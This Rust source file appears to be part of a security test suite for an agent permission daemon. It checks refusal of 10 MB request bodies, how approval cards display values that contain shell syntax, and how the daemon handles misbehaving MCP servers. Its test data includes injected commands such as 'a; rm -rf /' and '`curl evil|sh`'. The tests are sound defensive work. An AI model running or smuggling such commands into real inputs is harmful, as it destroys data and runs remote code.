//! Rows about what goes over a wire: bodies that are refused, and servers that do not keep to MCP.

use super::world::{call, check, open_request, text};
use super::{Site, TrialResult};
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;
use xtask::bench::runs::Context;
use xtask::clock::Stopwatch;
use xtask::external::json::value_at;
use xtask::external::line_client::LineClient;
use xtask::failure::Failure;
use xtask::hostile::{Finding, Verdict};

/// More than the buffers of both ends hold, and more than any route takes.
const LARGE: usize = 10 << 20;

pub fn refuse_large_bodies(site: &Site<'_>) -> TrialResult<Finding> {
    let node = site.start_node("one", super::world::GRAPH)?;
    let added = node.operator().post("/v1/agents", &json!({"agent": "sender"}));
    let token = text(&added.context("adding an agent")?, "token");
    let body = format!("{{\"session\": \"{}\"}}", "x".repeat(LARGE));
    check_that_resets_are_seen(&body)?;
    let (mut tried, mut lost) = (0, 0);
    for _ in site.extent.rounds(3, 100) {
        for (path, token, expected) in [
            ("/v1/check", "wrong", &[401, 429][..]),
            ("/v1/nowhere", &token, &[404]),
            ("/v1/check", &token, &[413]),
        ] {
            tried += 1;
            match send(node.agent_port(), path, token, &body) {
                Ok(status) if expected.contains(&status) => {}
                _ => lost += 1,
            }
        }
    }
    Ok(Finding {
        tried: format!("{tried} refused requests with 10 MB, from a client that writes first"),
        found: format!("{lost} did not see the reply"),
        verdict: Verdict::from(lost == 0),
    })
}

/// The control: a server that answers without reading the body resets the connection.
fn check_that_resets_are_seen(body: &str) -> TrialResult<()> {
    let listener = TcpListener::bind("127.0.0.1:0").context("a server without patience")?;
    let address = listener.local_addr().context("its address")?.to_string();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept()?;
        stream.write_all(b"HTTP/1.1 413 Payload Too Large\r\ncontent-length: 0\r\n\r\n")
    });
    let sent = send(&address, "/v1/check", "any", body);
    let served = server.join().map_err(|_| Failure::new("a server without patience"))?;
    served.context("a server without patience")?;
    match sent {
        Err(_) => Ok(()),
        Ok(_) => Err(Failure::new("a reply without reading was seen, so none can be lost")),
    }
}

/// Writes everything, then reads the status.
fn send(address: &str, path: &str, token: &str, body: &str) -> std::io::Result<u16> {
    let mut stream = TcpStream::connect(address)?;
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: {address}\r\nauthorization: Bearer {token}\r\n\
         content-type: application/json\r\ncontent-length: {}\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes())?;
    stream.write_all(body.as_bytes())?;
    let mut line = String::new();
    BufReader::new(stream).read_line(&mut line)?;
    let status = line.split(' ').nth(1).and_then(|status| status.parse().ok());
    status.ok_or_else(|| std::io::Error::other("no status line"))
}

/// Texts that are secrets by name or place, and do something.
const SYNTAX: [(&str, &str); 5] = [
    ("url", "https://x:aaaa$(touch /tmp/x)@host/"),
    ("line", "API_KEY=x$(id) ./run.sh"),
    ("secret", "$(id)"),
    ("password", "a; rm -rf /"),
    ("token", "`curl evil|sh`"),
];

/// A secret with nothing that a shell acts on.
const LITERAL: &str = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";

pub fn hide_syntax(site: &Site<'_>) -> TrialResult<Finding> {
    let node = site.start_node("one", super::world::GRAPH)?;
    let (agent, operator) = (node.agent(), node.operator());
    let mut hidden = Vec::new();
    for (name, value) in SYNTAX {
        let card = open_request(&agent, &operator, &write(name, &json!({ name: value })))?;
        if is_hidden(&card, value) {
            hidden.push(name);
        }
    }
    let literal = write("literal", &json!({"token": LITERAL}));
    let card = open_request(&agent, &operator, &literal)?;
    // The control: a value that is hidden for good reason, and the same card with it shown.
    let planted: Value = serde_json::from_str(&card.to_string().replace("REDACTED", LITERAL))
        .context("the card with its secret")?;
    if !is_hidden(&card, LITERAL) || is_hidden(&planted, LITERAL) {
        return Err(Failure::new("a hidden value is not told from one that is shown"));
    }
    let is_shown = card.to_string().contains(LITERAL);
    let left_out = value_at(&card, &["left_out", "characters"]).as_u64().unwrap_or(0);
    let is_counted = left_out == LITERAL.len() as u64;
    Ok(Finding {
        tried: format!("{} values with shell syntax, and a literal secret", SYNTAX.len()),
        found: format!(
            "{} hidden: {}; of the secret {left_out} characters count as left out",
            hidden.len(),
            hidden.join(", ")
        ),
        verdict: Verdict::from(hidden.is_empty() && !is_shown && is_counted),
    })
}

/// Whether a card does not show a value whole.
fn is_hidden(card: &Value, value: &str) -> bool {
    !find_texts(value_at(card, &["exact"])).iter().any(|line| line.contains(value))
}

fn write(session: &str, args: &Value) -> Value {
    json!({"session": session, "actions": [super::world::WRITE], "args": args})
}

/// Every text of a part of a card.
fn find_texts(part: &Value) -> Vec<&str> {
    match part {
        Value::String(text) => vec![text],
        Value::Array(items) => items.iter().flat_map(find_texts).collect(),
        Value::Object(members) => members.values().flat_map(find_texts).collect(),
        Value::Null | Value::Bool(_) | Value::Number(_) => Vec::new(),
    }
}

const MCP_GRAPH: &str = "\
domains:
  files: {autonomous: [read], requires_approval: [write], blocked: [wipe]}
tools:
  mcp__*: {actions: [files.read]}
";

/// What a server writes instead of a result.
const REPLIES: [(&str, &str); 4] = [
    ("honest", r#"printf '{"jsonrpc":"2.0","id":%s,"result":{"content":[]}}\n' "$id""#),
    ("endless", r#"tr '\0' a < /dev/zero"#),
    (
        "twice",
        r#"printf '{"jsonrpc":"2.0","id":%s,"result":{"content":[]},"result":{"content":[1]}}\n' "$id""#,
    ),
    (
        "deep",
        r#"printf '{"jsonrpc":"2.0","id":%s,"result":' "$id"; head -c 100000 /dev/zero | tr '\0' '['; head -c 100000 /dev/zero | tr '\0' ']'; echo '}'"#,
    ),
];

/// How long one call may take.
const CALL_LIMIT: Duration = Duration::from_secs(10);
/// What the daemon may need at most, in kilobytes.
const MEMORY_LIMIT: u64 = 512 << 10;

pub fn run_hostile_servers(site: &Site<'_>) -> TrialResult<Finding> {
    let home = site.folder().join("one");
    let config = home.join(".config/countersign");
    std::fs::create_dir_all(&config).context("a folder for settings")?;
    let mut settings = String::new();
    for (name, reply) in REPLIES {
        let script = write_server(&home, name, reply)?;
        settings.push_str(&format!("[mcp.servers.{name}]\ncommand = [{script:?}]\n"));
    }
    let file = config.join("settings.toml");
    std::fs::write(&file, settings).context("a settings file")?;
    let private = std::fs::Permissions::from_mode(0o600);
    std::fs::set_permissions(&file, private).context("a settings file")?;
    let node = site.start_node("one", MCP_GRAPH)?;
    let mut client = LineClient::connect(&mut node.command(&["mcp", "serve"]))?;
    let (mut slowest, mut accepted) = (Duration::ZERO, Vec::new());
    for (name, _) in REPLIES {
        let watch = Stopwatch::start();
        let called = client.call(&format!("{name}__go"), &json!({}));
        let took = watch.elapsed();
        slowest = slowest.max(took);
        if took > CALL_LIMIT {
            accepted.push(format!("{name} took {} ms", took.as_millis()));
        }
        let is_error =
            called.as_ref().map_or(true, |result| value_at(result, &["isError"]) == true);
        if is_error != (name != "honest") {
            accepted.push(format!("{name}: {called:?}"));
        }
    }
    let peak = node.peak_memory().ok_or_else(|| Failure::new("its memory cannot be read"))?;
    let still = check(&node.agent(), &call("after", super::world::READ, 1)).is_allowed();
    Ok(Finding {
        tried: format!("{} servers: an endless line, a key twice, deep nesting", REPLIES.len()),
        found: format!(
            "slowest call {} ms; peak {} MB; wrongly judged: {}",
            slowest.as_millis(),
            peak >> 10,
            accepted.join(", ")
        ),
        verdict: Verdict::from(accepted.is_empty() && still && peak <= MEMORY_LIMIT),
    })
}

/// A server that is honest until one of its tools is called.
fn write_server(folder: &Path, name: &str, reply: &str) -> TrialResult<String> {
    let script = folder.join(format!("{name}.sh"));
    let text = format!(
        r#"#!/bin/sh
PATH=/usr/bin:/bin
while read -r line; do
  id=$(printf '%s' "$line" | sed -n 's/.*"id":\("[^"]*"\|[0-9]*\).*/\1/p')
  case "$line" in
    *'"initialize"'*) printf '{{"jsonrpc":"2.0","id":%s,"result":{{"protocolVersion":"2025-06-18","capabilities":{{"tools":{{}}}},"serverInfo":{{"name":"s","version":"1"}}}}}}\n' "$id" ;;
    *'"tools/list"'*) printf '{{"jsonrpc":"2.0","id":%s,"result":{{"tools":[{{"name":"go","inputSchema":{{"type":"object"}}}}]}}}}\n' "$id" ;;
    *'"tools/call"'*) {reply} ;;
    *) test -n "$id" && printf '{{"jsonrpc":"2.0","id":%s,"error":{{"code":-32601,"message":"no"}}}}\n' "$id" ;;
  esac
done
"#
    );
    std::fs::write(&script, text).context("a server")?;
    let executable = std::fs::Permissions::from_mode(0o700);
    std::fs::set_permissions(&script, executable).context("a server")?;
    Ok(script.display().to_string())
}
